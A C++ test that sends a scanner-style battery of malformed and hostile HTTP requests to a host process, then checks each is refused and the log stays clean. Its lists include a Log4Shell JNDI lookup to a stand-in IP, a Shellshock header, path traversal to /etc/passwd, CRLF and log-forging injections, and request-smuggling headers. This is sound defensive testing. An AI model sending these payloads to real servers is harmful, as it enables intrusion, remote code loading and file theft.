// What scanners send to every open port: each request is refused or its connection closed, the host stays up, and its
// log tells of them in lines that are its own.

#include <regex>
#include <sstream>

#include "http/HostProcess.h"

namespace evidence_test {
namespace {

using std::string_literals::operator""s;

const std::string kEnd = "\r\nHost: a\r\n\r\n";
const std::string kPath = "/Echo";
/// A time that no line of the host has.
const std::string kForged = "2001-01-01T00:00:00.000Z 6 host forged";

std::string Times(std::size_t count, const std::string& text) {
  std::string all;
  for (std::size_t n = 0; n < count; ++n)
    all += text;
  return all;
}

/// First lines that are none, or not of this protocol.
std::vector<std::string> OddLines() {
  const std::vector<std::string> lines = {
      "",
      " ",
      "\n",
      "GET",
      "GET ",
      "GET /",
      "GET  / HTTP/1.1",
      " GET / HTTP/1.1",
      "\tGET / HTTP/1.1",
      "GET /\tHTTP/1.1",
      "GET / a HTTP/1.1",
      "GET / HTTP/1.1 a",
      "GET / http/1.1",
      "GET / HTTP/",
      "GET / HTTP/1",
      "GET / HTTP/1.1.1",
      "GET / HTTP/01.1",
      "GET / HTTP/1.x",
      "GET / HTTP/-1.1",
      "GET / HTTQ/1.1",
      "GET / ICY/1.0",
      "GET / HTTP/1.1\0"s,
      "G\0T / HTTP/1.1"s,
      "GET /\0 HTTP/1.1"s,
      "G\x1b[2JET / HTTP/1.1",
      "GET /\x1b]0;owned\x07 HTTP/1.1",
      "GET /\x7f HTTP/1.1",
      "GET /\xc2\x9b[2J HTTP/1.1",
      "GET /\xff\xfe HTTP/1.1",
      "GET /a\r" + kForged + " HTTP/1.1",
      "GET /a\n" + kForged + " HTTP/1.1",
      "GET\n/ HTTP/1.1",
      "<> / HTTP/1.1",
      "GET, / HTTP/1.1",
      "\x16\x03\x01 / HTTP/1.1",
      "SSH-2.0-OpenSSH_9.2",
      "EHLO scanner",
      "USER anonymous",
      "*1\r\n$4\r\nINFO",
      "stats",
      "OPTIONS sip:nm SIP/2.0",
      "OPTIONS / RTSP/1.0",
      "JDWP-Handshake",
      "{\"jsonrpc\":\"2.0\",\"method\":\"login\"}",
      "help\r\nquit",
  };
  std::vector<std::string> requests;
  for (const auto& line : lines)
    requests.push_back(line + kEnd);
  return requests;
}

/// Whole requests for what is not here, or not for them.
std::vector<std::string> OddTargets() {
  const std::vector<std::string> lines = {
      "GET / ",
      "GET * ",
      "OPTIONS * ",
      "TRACE / ",
      "TRACK / ",
      "DEBUG / ",
      "PROPFIND / ",
      "CONNECT example.org:443 ",
      "GET http://example.org/ ",
      "GET //example.org/ ",
      "GET file:///etc/passwd ",
      "GET /../../../etc/passwd ",
      "GET /..%2f..%2fetc%2fpasswd ",
      "GET /%2e%2e/%2e%2e/etc/passwd ",
      "GET /%c0%ae%c0%ae/etc/passwd ",
      "GET /..\\..\\windows\\win.ini ",
      "GET /%00 ",
      "GET /live%00 ",
      "GET /live/ ",
      "GET /LIVE ",
      "GET /%6cive ",
      "GET /%zz ",
      "GET /%0d%0aSet-Cookie:%20a=b ",
      "GET /.git/config ",
      "GET /cgi-bin/a.sh ",
      "GET /platform/v1/ ",
      "GET /platform/v1/../session ",
      "GET /platform/v1/%73ession ",
      "GET /" + std::string(5000, 'a') + " ",
      "GET /" + Times(2000, "%") + " ",
      "GET /?" + Times(2000, "a=b&") + " ",
      "DELETE " + kPath + "/1 ",
      "QUERY " + kPath + "?a=%zz ",
  };
  std::vector<std::string> requests;
  for (const auto& line : lines)
    requests.push_back(line + "HTTP/1.1" + kEnd);
  return requests;
}

/// Heads and bodies that fit no rule.
std::vector<std::string> OddHeads() {
  const std::vector<std::string> heads = {
      "Host: b",
      "Content-Length: -1",
      "Content-Length: 0x10",
      "Content-Length: 1e3",
      "Content-Length: 5, 5",
      "Content-Length: 99999999999999999999999",
      "Content-Length: 4294967297",
      "Content-Length: 3\r\nTransfer-Encoding: chunked",
      "Transfer-Encoding: chunked, chunked",
      "Transfer-Encoding: xchunked",
      "Transfer-Encoding:\vchunked",
      "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nx",
      "Transfer-Encoding: chunked\r\n\r\n-1\r\nx",
      "Transfer-Encoding: chunked\r\n\r\nzz\r\nx",
      "A b: c",
      "A\x01: c",
      "A: \x1b[2J",
      "A: b\r\n\tc: d",
      "no colon",
      ": no name",
      "A: " + std::string(20'000, 'x'),
      Times(3000, "A: b\r\n") + "A: b",
      "Authorization: Bearer " + std::string(8000, 'a'),
      "Authorization: Bearer \xff",
      "Authorization: Basic c3lzb3A6c3lzb3A=",
      "Cookie: ${jndi:ldap://203.0.113.9/a}",
      "User-Agent: () { :;}; echo forged",
      "X-Forwarded-For: " + Times(1000, "127.0.0.1, "),
      "X-Request-Id: a\tb",
      "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk",
  };
  std::vector<std::string> requests;
  for (const auto& head : heads)
    requests.push_back("POST " + kPath + " HTTP/1.1\r\nHost: a\r\n" + head + "\r\n\r\n");
  return requests;
}

/// Other protocols, and logins that are none.
std::vector<std::string> OddBytes() {
  const auto login = [](const std::string& body) { return RequestText("POST", "/login", "", body); };
  return {
      "\x16\x03\x01\x00\xf4\x01\x00\x00\xf0\x03\x03"s + std::string(200, '\x01'),
      "\x05\x01\x00"s,
      "\x04\x01\x00\x50\x01\x02\x03\x04\x00"s,
      "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00"s,
      "\x00\x00\x00\x08\x04\xd2\x16\x2f"s,
      std::string(1000, '\0'),
      std::string(40'000, 'A'),
      Times(20'000, "\r\n"),
      login(std::string(9000, '[')),
      login(R"({"UserName":"\ud800","Password":"\u0000"})"),
      login("{\"UserName\":\"a\xff\",\"Password\":\"b\"}"),
      login(R"({"UserName":["a"],"Password":{"b":1}})"),
      login(R"({"UserName":"a\n)" + kForged + R"(","Password":"b"})"),
  };
}

/// The statuses of all answers that come up to the end of the connection.
std::vector<int> Statuses(const HttpConnection& connection) {
  std::vector<int> statuses;
  for (auto reply = connection.ReadReply(); reply.status != 0; reply = connection.ReadReply())
    statuses.push_back(reply.status);
  return statuses;
}

TEST(ScannerTest, EachRequestIsRefusedAndTheHostServesOn) {
  EnsureTester();
  HostProcess host(SettingsMap{{"plugins", "test_show.s.so"},
                               {"log_level", "2"},
                               {"client_freeze", "off"},
                               {"user_tries", "100"},
                               {"idle_timeout_s", "1"},
                               {"read_timeout_s", "1"},
                               {"trusted_proxies", "127.0.0.1"}});
  const int port = host.WaitUntilListening();
  std::vector<std::pair<std::string, HttpConnection>> sent;
  for (const auto& requests : {OddLines(), OddTargets(), OddHeads(), OddBytes()}) {
    for (const auto& request : requests) {
      sent.emplace_back(testing::PrintToString(request.substr(0, 100)), HttpConnection(port));
      sent.back().second.Send(request);
      ASSERT_EQ(Ask(port, "GET", "/live", "").status, 200) << sent.back().first;
    }
  }
  EXPECT_GE(sent.size(), 100U);
  for (const auto& [request, connection] : sent)
    EXPECT_THAT(Statuses(connection), testing::Each(testing::AllOf(testing::Ge(400), testing::Lt(500)))) << request;
  EXPECT_EQ(host.Stop().exit_code, 0);

  const auto log = host.Log();
  EXPECT_EQ(log.find_first_of("\x01\x07\x1b\x7f"), std::string::npos);
  constexpr std::size_t kHead = 27;
  std::istringstream lines(log);
  const std::regex own(R"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z [1-6] )");
  for (std::string line; std::getline(lines, line);) {
    EXPECT_TRUE(line.starts_with('\t') || std::regex_match(line.substr(0, kHead), own)) << line;
    EXPECT_FALSE(line.starts_with(kForged)) << line;
  }
}

}  // namespace
}  // namespace evidence_test
